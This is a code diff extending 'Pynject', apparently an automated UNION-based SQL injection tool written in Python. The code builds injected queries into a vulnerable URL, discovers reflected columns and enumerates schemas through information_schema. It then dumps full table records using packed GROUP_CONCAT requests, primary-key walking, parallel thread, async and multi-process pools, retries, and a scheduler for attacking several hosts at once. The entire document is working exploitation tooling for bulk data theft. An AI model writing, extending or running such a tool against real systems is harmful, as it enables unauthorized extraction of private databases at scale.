+                self.columns[table] = columns.split(',')
+            else:
+                truncated.append( ( db, table ) )
+
+        for db, table in truncated:
+            self.fetchColumns( db, table )
+
+    def __newRows( self, name, fields, start, end, kind, key, writer, ordered ):
+        # rows are streamed to the writer if there is one, kept in memory otherwise
+        if writer != None:
+            writer.open( name, fields )
+            return StreamList( end - start, start, writer, ordered, self.buffer, self.session, kind, key )
+        return ResultList( end - start, start, self.session, kind, key )
+
+    def __fetchRows( self, container, what, table, noun, walk = None ):
+        # fetch every missing row of container, walking a ( db, table, key ) along the key column if given
+        rcnumber = len(container)
+        pbar     = ProgressBar( 0, rcnumber )
+        prompt   = "@ Found {0} {1}, fetching them:".format( rcnumber, noun )
+        ranges   = container.ranges()
+        missing  = sum( e - s for s, e in ranges )
+
+        if missing < rcnumber:
+            self.__print( "@ Resuming from session, {0} {1} already fetched.".format( rcnumber - missing, noun ) )
+
+        self.__print( "{0} {1}".format( prompt, pbar ), end = '\r' )
+
+        if walk != None and missing:
+            self.__walkRecords( container, walk[0], walk[1], walk[2], what, ranges, pbar, prompt )
+        elif self.pack:
+            self.__runPacked( container, what, table, None, ranges, self.pack, pbar, prompt )
+        else:
+            width = self.__width( what, table, None, False )
+            pool  = self.__newPool( self.__jobCount( missing, width ) )
+
+            pool.start( FetchJob( self, container, what, table, None, rcn, "strings", len(what), container.offset ) for rcn in self.__slices( ranges, width ) )
+
+            self.__waitForPool( pool, rcnumber, pbar, prompt, lambda: container.filled )
+            self.__requeue( container, what, table, None, "strings", len(what), noun )
+
+        self.__done(container)
+
+    def __fetchNames( self, container, what, table, where, noun ):
+        # the names of the schema, one for each marker of a request
+        pbar   = ProgressBar( 0, len(container) )
+        prompt = "@ Found {0} {1}, fetching their names:".format( len(container), noun )
+        ranges = container.ranges()
+        width  = self.__width( what, table, where, False )
+
+        self.__print( "{0} {1}".format( prompt, pbar ), end = '\r' )
+
+        pool = self.__newPool( self.__jobCount( sum( e - s for s, e in ranges ), width ) )
+        pool.start( FetchJob( self, container, what, table, where, index, "string", None ) for index in self.__slices( ranges, width ) )
+
+        self.__waitForPool( pool, len(container), pbar, prompt, lambda: container.filled )
+        self.__requeue( container, what, table, where, "string", None, noun )
+
+        self.__done(container)
+
+    def __done( self, container ):
+        # streamed items left in the reorder buffer are written now, the kept ones are printed if verbose
+        if type(container) == StreamList:
+            container.close()
+        elif self.verbose:
+            for index, item in enumerate(container):
+               self.__print( "\t[{0}] {1}".format(index,item) )
+            self.__print("\n")
+
+    def __runPacked( self, container, what, table, where, ranges, size, pbar, prompt ):
+        missing = sum( e - s for s, e in ranges )
+        width   = self.__width( what, table, where, True )
+        planner = ChunkPlanner( ranges, size, width )
+        pool    = self.__newPool( self.__jobCount( ( missing + size - 1 ) // size, width ) )
+
+        self.__print( "{0} {1}".format( prompt, pbar ), end = '\r' )
+
+        pool.start( PackedFetchJob( self, planner, container, what, table, where, chunks, len(what), container.offset ) for chunks in planner )
+
+        self.__waitForPool( pool, len(container), pbar, prompt, lambda: container.filled, planner )
+
+        if planner.requests:
+            sizes = ', '.join( "{0} x {1}".format( size, planner.sizes[size] ) for size in sorted( planner.sizes, reverse = True ) )
+            self.__print( "@ Packed {0} rows in {1} chunks ( rows/chunk : {2} ).".format( planner.rows, planner.requests, sizes ) )
+
+        self.__requeue( container, what, table, where, "strings", len(what), "rows" )
+
+    def __walkRecords( self, container, db, table, key, columns, ranges, pbar, prompt ):
+        # walk the key column from the start of every bucket of keys, so that no request skips more than a bucket of rows
+        fields  = columns if key in columns else columns + [ key ]
+        size    = self.pack if self.pack else 1
+        width   = self.__width( fields, db + "." + table, None, size > 1, key )
+        buckets = self.__keyBuckets( db, table, key, container, width )
+
+        def jobs( ranges ):
+            walks = self.__walks( buckets, ranges, size, width, container )
+            return [ KeysetFetchJob( self, container, fields, db + "." + table, key, walks[n:n + width], size, len(columns), container.offset ) for n in range(0,len(walks),width) ]
+
+        self.__print( "{0} {1}".format( prompt, pbar ), end = '\r' )
+
+        walks = jobs(ranges)
+        pool  = self.__newPool( len(walks) )
+        pool.start(walks)
+
+        self.__waitForPool( pool, len(container), pbar, prompt, lambda: container.filled )
+        self.__requeue( container, columns, db + "." + table, None, "strings", len(columns), "records", jobs )
+
+    def __keyColumn( self, db, table ):
+        # a primary key made of a single integer column
+        where = "table_schema={0}%20AND%20table_name={1}%20AND%20column_key={2}".format( self.__literal(db), self.__literal(table), self.__literal("PRI") )
+        count = self.__sqlInjectRetried( what = "COUNT(column_name)", table = "information_schema.columns", where = where, index = None, xtype = "int" )
+        if count == 1:
+            key = self.__sqlInjectRetried( what = [ "column_name", "data_type" ], table = "information_schema.columns", where = where, index = 0, xtype = "strings", nstrings = 2 )
+            if key != None and re.match( "^(tiny|small|medium|big)?int(eger)?$", key[1], re.I ):
+                self.__print( "@ Walking the records along the primary key '{0}'.".format( key[0] ) )
+                return key[0]
+        raise Exception( "Could not find an integer primary key of '{0}.{1}', give one with --keyset-column.".format( db, table ) )
+
+    def __keyBuckets( self, db, table, key, container, width ):
+        # split the keys in equal buckets and count the rows of each one, the index of the first row of a
+        # bucket is how many rows the buckets before it hold : ( first key - 1, first index, rows ) for each
+        bounds = self.__sqlInjectRetried( what = [ "MIN({0})".format(key), "MAX({0})".format(key) ], table = db + "." + table, where = None, index = None, xtype = "strings", nstrings = 2 )
+        if bounds == None or not all( re.match( "^-?[0-9]+$", bound ) for bound in bounds ):
+            raise Exception( "Could not fetch the range of the key column '{0}', it must be an integer one.".format(key) )
+        low, high = int(bounds[0]), int(bounds[1])
+
+        # enough buckets to keep every request in flight busy, small enough for the walks running together to fit in the reorder buffer
+        count   = max( self.window * width * 4, len(container) * self.window * width // self.buffer if self.writer != None and self.ordered else 0 )
+        step    = max( 1, ( high - low ) // count + 1 )
+        bucket  = "FLOOR(({0}-({1}))/{2})".format( key, low, step )
+        nonzero = self.__sqlInjectRetried( what = "COUNT(DISTINCT%20{0})".format(bucket), table = db + "." + table, where = None, index = None, xtype = "int" )
+        if nonzero == None:
+            raise Exception( "Could not fetch the number of key buckets." )
+
+        rows = ResultList( nonzero, 0 )
+        pbar = ProgressBar( 0, nonzero )
+        self.__runPacked( rows, [ bucket, "COUNT({0})".format(key) ], db + "." + table, "{0}>={1}%20GROUP%20BY%201%20ORDER%20BY%201".format( key, low ), rows.ranges(), self.pack if self.pack else 100, pbar, "@ Counting the records of {0} key buckets:".format(nonzero) )
+        if None in rows or not all( row[0].isdigit() and row[1].isdigit() for row in rows ):
+            raise Exception( "Could not count the records of every key bucket." )
+
+        buckets = []
+        first   = 0
+        for row in sorted( rows, key = lambda row: int(row[0]) ):
+            buckets.append( ( low + int(row[0]) * step - 1, first, int(row[1]) ) )
+            first += int(row[1])
+        return buckets
+
+    def __walks( self, buckets, ranges, size, width, container ):
+        # a walk for each piece of a missing range inside a bucket, long pieces of uneven buckets, or of a
+        # range too short to keep every request in flight busy, are split again
+        total   = sum( rows for cursor, first, rows in buckets )
+        missing = sum( end - start for start, end in ranges )
+        limit   = max( size, min( 2 * total // len(buckets) if buckets else total, -( -missing // ( self.window * width * 2 ) ) ) )
+        walks = []
+        for start, end in ranges:
+            for cursor, first, rows in buckets:
+                index = max( start, first )
+                while index < min( end, first + rows ):
+                    last = min( end, first + rows, index + limit )
+                    walks.append( [ cursor, index - first, index, last, size ] )
+                    index = last
+            for index in range( max( start, total ), end ):
+                # the table shrank since it was counted
+                container.fail( index - container.offset, "past the last key" )
+        return walks
+
+    def __requeue( self, container, what, table, where, xtype, nstrings, noun, jobs = None ):
+        # give the indexes that failed every retry one last chance, with a gentler pool, then report the holes,
+        # jobs returns the jobs fetching a list of ( start, end ) ranges again, classic requests by default
+        failed = container.failures()
+        if failed:
+            phase   = self.__phase("requeue")
+            indexes = sorted(failed)
+            ranges  = [ ( index, index + 1 ) for index in indexes ]
+            pbar    = ProgressBar( 0, len(indexes) )
+            filled  = container.filled
+            if jobs == None:
+                width = self.__width( what, table, where, False )
+                # subquery slots, the where clause may carry a GROUP BY the UNION would not like
+                jobs  = lambda ranges: [ FetchJob( self, container, what, table, where, index if type(index) == list else [index], xtype, nstrings, container.offset ) for index in self.__slices( ranges, width ) ]
+            else:
+                ranges = self.__holes(indexes)
+            jobs    = jobs(ranges)
+            pool    = self.__newPool( max( 1, min( self.window // 4, len(jobs) ) ) )
+
+            pool.start(jobs)
+
+            self.__waitForPool( pool, len(indexes), pbar, "@ Requeueing {0} failed {1}:".format( len(indexes), noun ), lambda: container.filled - filled )
+            failed = container.failures()
+            self.__phase(phase)
+
+        if failed:
+            container.holes.update(failed)
+            reasons = {}
+            for reason in failed.values():
+                reasons[reason] = reasons.get( reason, 0 ) + 1
+            self.__print( "! WARNING: {0} {1} could not be fetched ( {2} ) :".format( len(failed), noun, ', '.join( "{0} x {1}".format( reasons[reason], reason ) for reason in sorted(reasons) ) ) )
+            self.__print( "\t" + ', '.join( str(start) if start == end - 1 else "{0}-{1}".format( start, end - 1 ) for start, end in self.__holes( sorted(failed) ) ) + "\n" )
+
+    def __holes( self, indexes ):
+        # the ( start, end ) ranges of sorted indexes, end excluded
+        holes = []
+        for index in indexes:
+            if holes and holes[-1][1] == index:
+                holes[-1][1] = index + 1
+            else:
+                holes.append( [ index, index + 1 ] )
+        return [ tuple(hole) for hole in holes ]
+
+    def sqlInject( self, what, table, where, index, xtype = 'string', nstrings = None, count = None, keyset = None ):
+        """Fetch a single value, or a list of values, one for each marker, if index ( and count if packing ) is a list,
+        with keyset every index is a ( key, skip ) pair and rows are fetched after the key instead of at an offset."""
+        tokens   = self.__newTokens( index, xtype )
+        query    = self.__template( what, table, where, count != None, keyset ).fill( tokens, index, count )
+        scanner  = self.__newScanner( tokens, index, xtype, nstrings )
+        self.__httpGet( query, scanner )
+        return self.__parseOutputs( scanner, tokens, index, xtype, nstrings )
+
+    async def sqlInjectAsync( self, what, table, where, index, xtype = 'string', nstrings = None, count = None, keyset = None ):
+        tokens   = self.__newTokens( index, xtype )
+        query    = self.__template( what, table, where, count != None, keyset ).fill( tokens, index, count )
+        scanner  = self.__newScanner( tokens, index, xtype, nstrings )
+        await self.__httpGetAsync( query, scanner )
+        return self.__parseOutputs( scanner, tokens, index, xtype, nstrings )
+
+    def detectMarkers( self ):
+        """Look for other reflected columns in the UNION SELECT and add them as markers."""
+        self.__print( "@ Detecting visible UNION columns ." )
+        self.__phase("detect")
+
+        # the select list goes from the SELECT before the marker to the comment
+        position = self.url.find(self.marker)
+        select   = self.url.upper().rfind( "SELECT", 0, position )
+        end      = self.url.find( self.comment, position )
+        if select == -1 or end == -1:
+            raise Exception( "Could not find the UNION SELECT list in the url." )
+        select += len("SELECT")
+
+        items      = self.url[select:end].split(',')
+        blanks     = "(%20|%09|%0a|%0d|\\+|\\s|/\\*\\*/)*"
+        candidates = {}
+        for n, item in enumerate(items):
+            value = urllib.parse.unquote(item).strip()
+            if value.upper() == 'NULL' or value.isdigit():
+                # keep the whitespace around the value, it separates it from SELECT and FROM
+                head = re.match( "^" + blanks, item, re.I ).group()
+                tail = re.search( blanks + "$", item[len(head):], re.I ).group()
+                candidates[n] = ( head, tail, self.__randString(8) )
+
+        # probe every candidate column at once, each one with its own token
+        probe = list(items)
+        for n, ( head, tail, token ) in candidates.items():
+            probe[n] = head + self.__literal(token) + tail
+        query = self.url[:select] + ','.join(probe) + self.url[end:]
+        for marker in self.markers:
+            query = query.replace( marker, "NULL" )
+        data  = self.__httpGet(query)
+
+        found = [ n for n in sorted(candidates) if candidates[n][2] in data ]
+        for n in found:
+            head, tail, token = candidates[n]
+            marker            = "PYNJECT{0}MARKER".format(n)
+            items[n]          = head + marker + tail
+            self.markers.append(marker)
+        self.url       = self.url[:select] + ','.join(items) + self.url[end:]
+        self.templates = {}
+
+        self.__print( "@ Found {0} more visible columns, using {1} markers." .format( len(found), len(self.markers) ) )
+
+    def close(self):
+        """Close pooled connections, the session, the output writer and stop the async engine event loop, if any."""
+        # rows still in a reorder buffer, when the fetch was interrupted, are written before the writer is closed
+        for container in list( self.records.values() ) + [ self.data ]:
+            if type(container) == StreamList:
+                container.close()
+        self.connections.close()
+        if self.session != None:
+            self.session.close()
+        if self.writer != None:
+            self.writer.close()
+        if self.loop != None:
+            asyncio.run_coroutine_threadsafe( self.aconnections.close(), self.loop ).result()
+            self.loop.call_soon_threadsafe( self.loop.stop )
+            self.loop = None
+
+    def fetched(self):
+        """Return how many names, records and query rows have been fetched, the ones found in the session too."""
+        containers = list( self.tables.values() ) + list( self.columns.values() ) + list( self.records.values() ) + ( [ self.data ] if self.data != None else [] )
+        # streamed and preallocated containers count what they got, the bulk structure fills plain lists
+        return len(self.dbs) + sum( container.filled if hasattr( container, "filled" ) else len(container) for container in containers )
+
+    def __newPool( self, target ):
+        window = self.window if self.window < target else target
+        # the workers print like the thread starting them, nothing at all for the fetch of an iterator
+        output = self.__print if not getattr( self.iterating, "active", False ) else None
+        if self.engine == 'async':
+            return AsyncPool( window_size = window, loop = self.__eventLoop(), output = output )
+        else:
+            return ThreadPool( window_size = window, output = output )
+
+    def __eventLoop(self):
+        # the async engine runs on its own thread, so the main one can keep drawing the progress
+        if self.loop == None:
+            self.loop = asyncio.new_event_loop()
+            thread    = threading.Thread( target = self.loop.run_forever )
+            thread.daemon = True
+            thread.start()
+        return self.loop
+
+    def __jobCount( self, target, width ):
+        return ( target + width - 1 ) // width
+
+    def __slices( self, ranges, width ):
+        # lazily walk the ( start, end ) ranges, with several markers every job fetches one row for each of them
+        slot = []
+        for start, end in ranges:
+            for index in range(start,end):
+                if width == 1:
+                    yield index
+                    continue
+                slot.append(index)
+                if len(slot) == width:
+                    yield slot
+                    slot = []
+        if slot:
+            yield slot
+
+    def __template( self, what, table, where, packed, keyset = None ):
+        # every fetch compiles its template once, requests only fill in the tokens and the indexes
+        key      = ( tuple(what) if type(what) == list else what, table, where, packed, keyset )
+        template = self.templates.get(key)
+        if template == None:
+            template = QueryTemplate( self.url, self.markers, self.comment, self.__literal, what, table, where, packed, keyset )
+            self.templates[key] = template
+        return template
+
+    def __width( self, what, table, where, packed, keyset = None ):
+        # how many markers a request can use without going over --max-url, measured with the longest tokens and indexes
+        template = self.__template( what, table, where, packed, keyset )
+        if template.width == None:
+            index  = ( -10 ** 18, 10 ** 6 ) if keyset != None else 10 ** 9
+            width  = template.slots( self.maxurl, [ "z" * 5 ] * ( 3 if packed else 1 ), index, 10 ** 6 if packed else None )
+            if width == 0:
+                raise Exception( "The query fetching {0} does not fit in {1} characters ( --max-url ).".format( what, self.maxurl ) )
+            if width < len(self.markers):
+                self.__print( "\n! WARNING: only {0} of {1} markers fit in {2} characters ( --max-url ), using {0}.".format( width, len(self.markers), self.maxurl ) )
+            template.width = width
+        return template.width
+
+    def __sqlInjectRetried( self, **kwargs ):
+        # the single requests out of the pools follow the same retry policy of the jobs
+        attempt = 0
+        while True:
+            value = None
+            error = None
+            try:
+                value = self.sqlInject( **kwargs )
+            except Exception as e:
+                error = e
+            delay = self.retry.delay( attempt, error ) if value == None else None
+            if delay == None:
+                break
+            attempt += 1
+            time.sleep(delay)
+
+        if error != None:
+            raise error
+        return value
+
+    def __fetchCount( self, name, what, table, where ):
+        count = self.session.getCount(name) if self.session != None else None
+        if count == None:
+            phase = self.__phase("count")
+            count = self.__sqlInjectRetried( what = what, table = table, where = where, index = None, xtype = "int" )
+            self.__phase(phase)
+            if count != None and self.session != None:
+                self.session.setCount( name, count )
+        return count
+
+    def __phase( self, name ):
+        # requests are accounted to the phase set last, the previous one is returned to restore it
+        if self.stats == None:
+            return None
+        phase, self.stats.phase = self.stats.phase, name
+        return phase
+
+    def __newTokens( self, index, xtype ):
+        slots = len(index) if type(index) == list else 1
+        return [ self.__randString(5) for i in range( 0, slots * ( 3 if xtype == 'packed' else 1 ) ) ]
+
+    def __newScanner( self, tokens, index, xtype, nstrings ):
+        # the first token of every slot delimits its value, the packing separators are inside it
+        width = len(tokens) // ( len(index) if type(index) == list else 1 )
+        return TokenScanner( dict( ( token, nstrings + 1 if xtype == 'strings' else 2 ) for token in tokens[::width] ) )
+
+    def __parseOutputs( self, scanner, tokens, index, xtype, nstrings ):
+        if type(index) != list:
+            return self.__parseOutput( scanner, tokens, xtype, nstrings )
+        width = len(tokens) // len(index)
+        return [ self.__parseOutput( scanner, tokens[n * width:(n + 1) * width], xtype, nstrings ) for n in range(0,len(index)) ]
+
+    def __parseOutput( self, scanner, tokens, xtype, nstrings ):
+        data = scanner.segment( tokens[0] )
+        if data == None:
+            if self.stats != None:
+                self.stats.failure( "output not found" )
+            return None
         # handle return type parsing
         if xtype == 'int':
-            return self.__xtractInteger( data, token )
+            return self.__xtractInteger( data )
         elif xtype == 'string':
-            return self.__xtractString( data, token )
+            return self.__xtractString( data )
         elif xtype == 'strings':
-            return self.__xtractMultipleStrings( data, token, nstrings )
+            return self.__xtractMultipleStrings( data, tokens[0], nstrings )
+        elif xtype == 'packed':
+            return self.__xtractPackedRows( data, tokens[1], tokens[2] )
 
-    def __waitForPool( self, pool, target, pbar, prompt ):
-        while pool.active == True:
-            pbar.update_amount( target - len(pool.pool) )
-            print( "{0} {1}".format( prompt, pbar ), end = '\r' )
-            sys.stdout.flush()
-            time.sleep(0.0001)
+    def __waitForPool( self, pool, target, pbar, prompt, progress = None, planner = None ):
+        started = time.time()
+        cpu     = time.thread_time()
+        try:
+            pbar.update_amount( progress() if progress != None else pool.done )
+            pbar.reset_rate()
+            drawn = 0
+            while pool.active == True:
+                # redraw when jobs complete, at most ten times a second, and every second anyway to keep the ETA moving
+                pool.wait(1.0)
+                if self.stopping.is_set():
+                    raise FetchStopped()
+                wait = drawn + 0.1 - time.time()
+                if wait > 0:
+                    time.sleep(wait)
+                drawn = time.time()
+                pbar.update_amount( progress() if progress != None else pool.done )
+                self.__print( "{0} {1}{2}".format( prompt, pbar, self.__concurrency() ), end = '\r' )
+        except ( KeyboardInterrupt, FetchStopped ):
+            pool.stop()
+            if planner != None:
+                planner.stop()
+            pool.join()
+            raise
+        pool.join()
         pbar.update_amount( target )
-        print( "{0} {1}".format( prompt, pbar ), end = '\r' )
-        sys.stdout.flush()
-        print("\n")
-
-    def __composeQuery( self, chrseq, what, table = None, where = None, index = None ):
-        # handle a single column (str) or multiple columns (list)
-        if type(what) == str:
-            query = self.url.replace( self.marker, "CONCAT({0},{1},{0})".format(chrseq,what) )
-        elif type(what) == list:
-            query = self.url.replace( self.marker, "CONCAT({0},{1},{0})".format(chrseq, ("," + chrseq + ",").join(what) ) )
-        # FROM clause
-        if table != None:
-            query = query.replace( self.comment, "%20FROM%20{0}{1}".format(table,self.comment) )
-        # WHERE clause
-        if where != None:
-            query = query.replace( self.comment, "%20WHERE%20{0}{1}".format(where,self.comment) )
-        # LIMIT clause
-        if index != None:
-            query = query.replace( self.comment, "%20LIMIT%20{0},1{1}".format(index,self.comment) )
-
-        return query
+        self.__print( "{0} {1}{2}".format( prompt, pbar, self.__concurrency() ), end = '\r' )
+        self.__print("\n")
+
+        self.waited     += time.time() - started
+        self.waitedCpu  += time.thread_time() - cpu
+
+    def __print( self, *args, **kwargs ):
+        # quiet injectors and the threads fetching for an iterator print nothing
+        if not self.quiet and not getattr( self.iterating, "active", False ):
+            print( *args, **kwargs )
+            sys.stdout.flush()
+
+    def __concurrency(self):
+        # padded, the limit shrinks and the line is redrawn over itself
+        return " ( {0} )".format( self.controller ).ljust(22) if self.controller != None else ""
 
     def __randString(self,length):
         charset = "QWERTYUIOPASDFGHJKLZXCVBNMqwertyuiopasdfghjklzxcvbnm1234567890"
@@ -395,35 +2929,438 @@ class Pynject:
             seq.append( str( ord(c) ) )
         return "CHAR(" + ','.join(seq) + ")"
 
-    def __httpGet(self,url):
+    def __stringToHex(self,string):
+        return "0x" + string.encode('utf-8').hex()
+
+    def __literal(self,string):
+        return self.__stringToHex(string) if self.literals == 'hex' else self.__stringToChrSeq(string)
+
+    def __httpGet( self, url, scanner = None ):
+        if self.debug:
+            self.__print( "[QUERY DEBUG] : {0}".format(url) )
+        if self.controller != None:
+            self.controller.acquire()
+        start = time.time()
+        meter = {}
+        error = None
+        try:
+            # TODO: Handle custom useragent, ecc ecc
+            data = self.connections.get( url, scanner = scanner, meter = meter )
+        except Exception as e:
+            error = e
+            raise
+        finally:
+            self.__account( time.time() - start, meter, error )
+        return data.decode('iso-8859-1') if data != None else None
+
+    async def __httpGetAsync( self, url, scanner = None ):
         if self.debug:
-            print( "[QUERY DEBUG] : {0}".format(url) )
-        # TODO: Handle useragent, proxy, ecc ecc
-        return urllib.request.urlopen(url).read().decode('iso-8859-1')
+            self.__print( "[QUERY DEBUG] : {0}".format(url) )
+        if self.controller != None:
+            await self.controller.acquireAsync()
+        start = time.time()
+        meter = {}
+        error = None
+        try:
+            data = await self.aconnections.get( url, scanner = scanner, meter = meter )
+        except Exception as e:
+            error = e
+            raise
+        finally:
+            self.__account( time.time() - start, meter, error )
+        return data.decode('iso-8859-1') if data != None else None
 
-    def __xtractInteger( self, data, token ):
-        regx  = re.compile( "{0}(\d+){0}".format(token) )
-        match = regx.search(data)
-        return int( match.group().replace( token, '' ) ) if match is not None else None
+    def __account( self, latency, meter, error ):
+        if self.controller != None:
+            self.controller.release( latency, error != None and RetryPolicy.transient(error) )
+        if self.stats != None:
+            self.stats.request( latency, meter.get( "decoded", 0 ), RetryPolicy.reason(error) if error != None else None, meter.get( "wire", 0 ) )
+
+    def __xtractInteger( self, data ):
+        if not data.isdigit():
+            if self.stats != None:
+                self.stats.failure( "not an integer" )
+            return None
+        return int(data)
 
-    def __xtractString( self, data, token ):
-        regx  = re.compile( "{0}(.+){0}".format(token) )
-        match = regx.search(data)
-        return match.group().replace( token, '' ) if match is not None else None   
+    def __xtractString( self, data ):
+        return data
 
     def __xtractMultipleStrings( self, data, token, n ):
-        pattern = "{0}(.+)" * n + "{0}"
-        regx    = re.compile( pattern.format(token) )
-        match   = regx.search(data)
-        if match:
-            # Remove head and tail tokens
-            data = match.group()
-            data = data[len(token):]
-            data = data[0:len(data) - len(token)]
-            
-            return data.split(token)
-        else:
-            return None
+        data = data.split(token)
+        return data if len(data) == n else None
+
+    def __xtractPackedRows( self, data, rowsep, fieldsep ):
+        # rows are terminated by rowsep and joined by GROUP_CONCAT commas, anything after
+        # the last rowsep is a row truncated by group_concat_max_len
+        rows = data.split(rowsep)[:-1]
+        return [ ( row[1:] if i > 0 else row ).split(fieldsep) for i, row in enumerate(rows) ]
+
+class ShardPool:
+    def __init__( self, factory, processes ):
+        """Initialize the shard pool, it runs fetchRecords over contiguous index ranges in several local processes.
+
+            factory (callable) : Called in every process with the shard number, its session (or None) and its writer,
+                                 returns the Pynject instance to use.
+            processes (int)    : Number of processes, one shard each.
+        """
+        if 'fork' not in multiprocessing.get_all_start_methods():
+            raise Exception( "Shard pools need the 'fork' start method, which is not available on this platform." )
+        self.factory   = factory
+        self.processes = processes if processes > 0 else 1
+        self.context   = multiprocessing.get_context('fork')
+
+    def __str__(self):
+        return "Shard Pool( Processes={0} )".format( self.processes )
+
+    @staticmethod
+    def split( start, end, shards ):
+        """Return the ( start, end ) index range of every shard."""
+        return [ ( start + ( end - start ) * n // shards, start + ( end - start ) * ( n + 1 ) // shards ) for n in range(0,shards) ]
+
+    @staticmethod
+    def partname( filename, shard, shards ):
+        base, ext = os.path.splitext(filename)
+        return "{0}.part{1}-of-{2}{3}".format( base, shard + 1, shards, ext )
+
+    def run( self, db, table, columns, start, end, method, filename, session = None ):
+        """Fetch the records in start-end, every process writes its own partial output and the list of them is returned.
+
+        If session is the name of a session file, every shard uses its own next to it.
+        """
+        ranges   = ShardPool.split( start, end, self.processes )
+        parts    = [ ShardPool.partname( filename, n, self.processes ) for n in range(0,self.processes) ]
+        progress = [ self.context.Value( 'q', 0 ) for n in range(0,self.processes) ]
+        workers  = [ self.context.Process( target = self.__shard, args = ( n, db, table, columns, ranges[n], method, parts[n], session, progress[n] ) ) for n in range(0,self.processes) ]
+        pbar     = ProgressBar( 0, end - start )
+        prompt   = "@ Fetching {0} records with {1} processes:".format( end - start, self.processes )
+
+        for worker in workers:
+            worker.start()
+        try:
+            pbar.reset_rate()
+            while [ worker for worker in workers if worker.is_alive() ]:
+                pbar.update_amount( sum( value.value for value in progress ) )
+                print( "{0} {1}".format( prompt, pbar ), end = '\r' )
+                sys.stdout.flush()
+                time.sleep(0.2)
+        except KeyboardInterrupt:
+            for worker in workers:
+                worker.terminate()
+            raise
+
+        pbar.update_amount( sum( value.value for value in progress ) )
+        print( "{0} {1}\n".format( prompt, pbar ) )
+        for n, worker in enumerate(workers):
+            worker.join()
+            if worker.exitcode != 0:
+                print( "! WARNING: Shard {0} ( records {1}-{2} ) exited with code {3}.".format( n + 1, ranges[n][0], ranges[n][1] - 1, worker.exitcode ) )
+        return [ part for part in parts if os.path.exists(part) ]
+
+    def __shard( self, n, db, table, columns, limits, method, filename, session, progress ):
+        # the parent draws the progress of every shard
+        sys.stdout = open( os.devnull, 'w' )
+        session    = Session( "{0}.part{1}-of-{2}".format( session, n + 1, self.processes ) ) if session != None else None
+        writer     = RecordWriter.create( method, filename )
+        pynject    = self.factory( n, session, writer )
+        done       = threading.Event()
+
+        def report():
+            while not done.wait(0.2):
+                container = pynject.records.get(table)
+                if container != None:
+                    progress.value = container.filled
+        reporter = threading.Thread( target = report )
+        reporter.daemon = True
+        reporter.start()
+
+        try:
+            pynject.fetchRecords( db, table, columns, limits[0], limits[1] )
+        finally:
+            done.set()
+            reporter.join()
+            container = pynject.records.get(table)
+            if container != None:
+                progress.value = container.filled
+            pynject.close()
+
+class JobScheduler:
+    def __init__( self, maximum, hosts = None, default = None ):
+        """Initialize the job scheduler, it shares the requests in flight between the jobs of several targets.
+
+            maximum (int) : Maximum number of requests in flight of all the jobs together.
+            hosts (dict)  : Maximum number of requests in flight to a host, by host name.
+            default (int) : Same for the hosts not in hosts, None to only apply maximum.
+
+        A free slot goes to the waiting request of the job with the fewest requests in flight, so that
+        a job with a large --threads can not starve the others.
+        """
+        self.maximum  = maximum if maximum > 0 else 1
+        self.hosts    = hosts if hosts != None else {}
+        self.default  = default
+        self.inflight = 0
+        self.peak     = 0
+        self.busy     = {}
+        self.peaks    = {}
+        self.waiting  = []
+        self.serial   = 0
+        self.lock     = threading.Lock()
+
+    def __str__(self):
+        return "Job Scheduler( InFlight={0}/{1}, Hosts={2}, Waiting={3} )".format( self.inflight, self.maximum, len(self.busy), len(self.waiting) )
+
+    @staticmethod
+    def host( url ):
+        return urllib.parse.urlsplit(url).hostname
+
+    def limit( self, host ):
+        """Return the maximum number of requests in flight to host, None if only the global one applies."""
+        return self.hosts.get( host, self.default )
+
+    def gate( self, url, controller = None ):
+        """Return a new gate for a job fetching url, controller adds the own limits of the job."""
+        return JobGate( self, JobScheduler.host(url), controller )
+
+    def acquire( self, gate ):
+        ticket = self.__enqueue( gate, threading.Event(), None )
+        ticket[2].wait()
+
+    async def acquireAsync( self, gate ):
+        loop   = asyncio.get_running_loop()
+        ticket = self.__enqueue( gate, loop.create_future(), loop )
+        try:
+            await ticket[2]
+        except BaseException:
+            # cancelled while waiting, or right after being given the slot
+            self.__withdraw(ticket)
+            raise
+
+    def release( self, gate, error = False ):
+        with self.lock:
+            self.__free(gate)
+            gate.requests += 1
+            gate.errors   += 1 if error else 0
+            self.__dispatch()
+
+    def __enqueue( self, gate, waiter, loop ):
+        # a ticket is [ gate, serial, Event or Future, its event loop or None, granted ]
+        with self.lock:
+            self.serial += 1
+            ticket = [ gate, self.serial, waiter, loop, False ]
+            self.waiting.append(ticket)
+            self.__dispatch()
+        return ticket
+
+    def __withdraw( self, ticket ):
+        with self.lock:
+            if ticket[4]:
+                self.__free( ticket[0] )
+            else:
+                self.waiting.remove(ticket)
+            self.__dispatch()
+
+    def __free( self, gate ):
+        self.inflight        -= 1
+        self.busy[gate.host] -= 1
+        gate.inflight        -= 1
+
+    def __dispatch(self):
+        # hand the free slots to the waiting requests of the jobs with the fewest in flight, the oldest first
+        while self.waiting and self.inflight < self.maximum:
+            ready = [ ticket for ticket in self.waiting if self.limit( ticket[0].host ) == None or self.busy.get( ticket[0].host, 0 ) < self.limit( ticket[0].host ) ]
+            if not ready:
+                return
+            ticket = min( ready, key = lambda ticket: ( ticket[0].inflight, ticket[1] ) )
+            gate   = ticket[0]
+            self.waiting.remove(ticket)
+            self.inflight         += 1
+            self.busy[gate.host]   = self.busy.get( gate.host, 0 ) + 1
+            gate.inflight         += 1
+            self.peak              = max( self.peak, self.inflight )
+            self.peaks[gate.host]  = max( self.peaks.get( gate.host, 0 ), self.busy[gate.host] )
+            ticket[4]              = True
+            if ticket[3] == None:
+                ticket[2].set()
+            else:
+                ticket[3].call_soon_threadsafe( JobScheduler.__resolve, ticket[2] )
+
+    @staticmethod
+    def __resolve( future ):
+        if not future.done():
+            future.set_result(True)
+
+class JobGate:
+    def __init__( self, scheduler, host, controller = None ):
+        """Initialize the gate of a job, the injector uses it as its concurrency controller and every request takes a slot of the scheduler.
+
+            scheduler (JobScheduler)           : The scheduler shared by every job.
+            host (str)                         : The host the job sends its requests to.
+            controller (ConcurrencyController) : The own limits of the job ( --adaptive, --rate ), applied first, if any.
+        """
+        self.scheduler  = scheduler
+        self.host       = host
+        self.controller = controller
+        self.inflight   = 0
+        self.requests   = 0
+        self.errors     = 0
+        self.limit      = self.__limit()
+
+    def __str__(self):
+        return "concurrency {0}/{1}".format( self.inflight, self.limit )
+
+    def wrap( self, controller ):
+        """Apply the limits of controller too and return the gate."""
+        self.controller = controller
+        self.limit      = self.__limit()
+        return self
+
+    def acquire(self):
+        if self.controller != None:
+            self.controller.acquire()
+        self.scheduler.acquire(self)
+
